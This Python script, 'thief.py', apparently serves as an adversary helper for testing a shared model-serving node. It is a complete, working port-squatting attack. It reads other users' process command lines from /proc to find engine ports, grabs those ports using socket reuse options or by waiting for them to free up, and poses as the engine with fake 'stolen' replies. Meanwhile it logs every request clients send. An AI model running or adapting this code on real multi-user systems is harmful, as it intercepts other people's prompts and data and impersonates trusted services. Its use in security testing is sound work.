"""A process of another account on a node, which takes ports of engines and answers there as if it were one. A program of its own:

    thief.py watch UID MOST   takes the first MOST ports that stand in command lines (--port=) of that account
    thief.py wait PORT        tries to take this port, with every option that might help, until it has it

One JSON object a line says what happened: {"tried": PORT} for the first failed try, {"took": PORT}, {"got": TEXT} for whatever clients send.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

BODY = json.dumps({"generated_text": "stolen", "choices": [{"message": {"content": "stolen"}}]}).encode()
HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(BODY)
FLAG = "--port="
OPTIONS = ((socket.SO_REUSEADDR,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT), (socket.SO_REUSEPORT,), ())


def say(**what: object) -> None:
    print(json.dumps(what), flush=True)


def take(port: int) -> socket.socket | None:
    for options in OPTIONS:
        listener = socket.socket()
        try:
            for option in options:
                listener.setsockopt(socket.SOL_SOCKET, option, 1)
            listener.bind(("127.0.0.1", port))
            listener.listen()
        except OSError:
            listener.close()
        else:
            say(took=port)
            return listener
    return None


def serve(listener: socket.socket) -> None:
    while True:
        client, _ = listener.accept()
        threading.Thread(target=answer, args=(client,), daemon=True).start()


def answer(client: socket.socket) -> None:
    with contextlib.suppress(OSError), client:
        while data := client.recv(1 << 16):
            say(got=data.decode(errors="replace"))
            client.sendall(HEAD + BODY)


def ports_of(uid: int) -> Iterator[int]:
    """What stands behind --port= in the command lines that everybody may read."""
    for path in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError, ValueError, StopIteration):
            if path.stat().st_uid == uid:
                words = (path / "cmdline").read_bytes().decode().split("\0")
                yield next(int(word.removeprefix(FLAG)) for word in words if word.startswith(FLAG))


def watch(uid: int, most: int) -> None:
    taken: set[int] = set()
    while len(taken) < most:
        for port in {*ports_of(uid)} - taken:
            if len(taken) < most and (listener := take(port)) is not None:
                taken.add(port)
                threading.Thread(target=serve, args=(listener,), daemon=True).start()


def wait(port: int) -> None:
    tried = False
    while (listener := take(port)) is None:
        if not tried:
            say(tried=port)
            tried = True
    serve(listener)


if __name__ == "__main__":
    os.nice(5)
    if sys.argv[1] == "watch":
        watch(int(sys.argv[2]), int(sys.argv[3]))
        while True:
            time.sleep(60)
    wait(int(sys.argv[2]))
